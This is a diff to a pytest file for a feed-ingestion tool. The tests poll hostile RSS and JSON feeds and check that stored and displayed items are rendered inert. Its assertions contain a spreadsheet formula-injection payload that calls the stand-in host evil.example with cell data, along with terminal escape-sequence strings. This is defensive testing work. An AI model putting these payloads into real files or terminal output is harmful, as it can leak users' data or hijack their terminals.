@@ -9,15 +9,14 @@ from __future__ import annotations
 import re
 from pathlib import Path
 
+import pytest
+
 from sqlmodel import Session, select
 
-from ingest import config
 from ingest.config import Source
-from ingest.fetch import Fetcher
-from ingest.pipeline import Pipeline
-from ingest.storage.store import Store
 from ingest.storage.tables import HitRow, ItemRow
 from ingest.text import clean_text, removed_before
+from tests.polling import polling
 from tests.servers import LocalServer
 
 HOSTILE = Path(__file__).resolve().parent / "fixtures" / "hostile"
@@ -60,25 +59,19 @@ def serve_hostile(srv: LocalServer) -> None:
               headers={"Content-Type": "text/html; charset=utf-8"})
 
 
-def poll_hostile(tmp_path, db_url):
+@pytest.fixture
+def hostile(tmp_path, db_url):
     """The hostile RSS and JSON feeds polled from loopback into a fresh store: (config, store)."""
-    path = tmp_path / "config.toml"
-    path.write_text(f'[database]\nurl = "{db_url}"\n[fetch]\nallow_private_networks = true\ntimeout = 10\n'
-                    '[[watchlists]]\nname = "csto"\nterms = ["CSTO"]\n')
-    cfg = config.load(path)
-    store = Store(cfg.database_url)
-    store.prepare()
-    with LocalServer() as srv, Fetcher(cfg.settings.fetch) as fetcher:
+    with polling(tmp_path, db_url, watchlists='[[watchlists]]\nname = "csto"\nterms = ["CSTO"]\n') as (srv, store, p):
         serve_hostile(srv)
-        pipeline = Pipeline(cfg, store, fetcher)
-        rss = pipeline.poll(Source(name="hostile-rss", url=srv.url("/hostile/feed.xml")))
-        jsonfeed = pipeline.poll(Source(name="hostile-json", url=srv.url("/hostile/feed.json")))
-    assert (rss.new, rss.failed, jsonfeed.new) == (6, 0, 1), (rss, jsonfeed)
-    return cfg, store
+        rss = p.poll(Source(name="hostile-rss", url=srv.url("/hostile/feed.xml")))
+        jsonfeed = p.poll(Source(name="hostile-json", url=srv.url("/hostile/feed.json")))
+        assert (rss.new, rss.failed, jsonfeed.new) == (6, 0, 1), (rss, jsonfeed)
+        yield p.config, store
 
 
-def test_hostile_feeds_are_stored_without_controls(tmp_path, db_url):
-    cfg, store = poll_hostile(tmp_path, db_url)
+def test_hostile_feeds_are_stored_without_controls(hostile):
+    _, store = hostile
     with Session(store.engine) as s:
         items = s.exec(select(ItemRow)).all()
         hits = s.exec(select(HitRow)).all()
@@ -101,10 +94,9 @@ def test_hostile_feeds_are_stored_without_controls(tmp_path, db_url):
     assert titles["hostile-rss:missing-2.html"] == '=HYPERLINK("http://evil.example/"&A1,"CSTO click")'
     assert titles["hostile-rss:missing-6.html"] == "Escaped ]0;pwned ›2J char refs CSTO\novertyped"
     assert titles["hostile-json:missing-j1.html"] == "]0;pwned JSON 31m lone  surrogate CSTO"
-    store.close()
 
 
-def test_the_web_app_shows_the_hostile_items_inert(tmp_path, db_url):
+def test_the_web_app_shows_the_hostile_items_inert(hostile):
     """Issue 25 point 6: every page and API answer over the hostile items carries no control character."""
     import warnings
 
@@ -114,7 +106,7 @@ def test_the_web_app_shows_the_hostile_items_inert(tmp_path, db_url):
         warnings.simplefilter("ignore")
         from fastapi.testclient import TestClient
 
-    cfg, store = poll_hostile(tmp_path, db_url)
+    cfg, store = hostile
     c = TestClient(create_app(cfg, store, WebSettings(host="127.0.0.1")), base_url="http://127.0.0.1")
     with Session(store.engine) as s:
         ids = s.exec(select(ItemRow.id)).all()
@@ -128,4 +120,3 @@ def test_the_web_app_shows_the_hostile_items_inert(tmp_path, db_url):
     assert "]0;pwned[2J[31mCSTO summit retitles your terminal" in inbox
     assert "=HYPERLINK(&#34;http://evil.example/&#34;&amp;A1,&#34;CSTO click&#34;)" in inbox \
         or "=HYPERLINK(&quot;http://evil.example/&quot;&amp;A1,&quot;CSTO click&quot;)" in inbox
-    store.close()
